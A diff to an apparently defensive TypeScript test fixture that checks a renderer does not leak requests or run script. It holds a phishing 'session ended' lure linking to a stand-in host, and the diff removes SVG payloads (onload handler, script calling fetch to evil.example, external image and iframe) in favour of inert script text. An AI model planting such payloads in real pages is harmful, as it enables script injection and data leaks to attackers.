@@ -2,6 +2,8 @@
 
 /** Every request to it is a leak. */
 export const FOREIGN = "evil.example";
+/** How the address of a drawing on a page begins: one that holds it, and is of no origin. */
+export const DRAWN = "data:image/svg+xml;base64,";
 /** Stands in the page as text, whatever is around it. */
 export const VISIBLE = ["harmless words before", "harmless words after"] as const;
 
@@ -64,12 +66,12 @@ Your session has ended. **Your key or passphrase**
 
 [Unlock](https://${FOREIGN}/phish)`;
 
+/** A drawing whose words would run, were they more than words; no other is taken. */
 const SVG = `<?xml version="1.0"?>
-<?xml-stylesheet href="https://${FOREIGN}/svg.css"?>
-<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" onload="canary('image svg')">
-<script>parent.canary("image script"); fetch("https://${FOREIGN}/svg-fetch")</script>
-<image xlink:href="https://${FOREIGN}/svg-image.png" width="9" height="9"/>
-<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://${FOREIGN}/svg-frame"></iframe></foreignObject>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80">
+<title>&lt;script&gt;canary("image title")&lt;/script&gt;</title>
+<text y="20"><![CDATA[<script>canary("image text")</script>]]></text>
+<!-- <script>canary("image comment")</script> -->
 <rect width="120" height="80" fill="teal"/></svg>`;
 
 /** Markup where a name is asked for. */
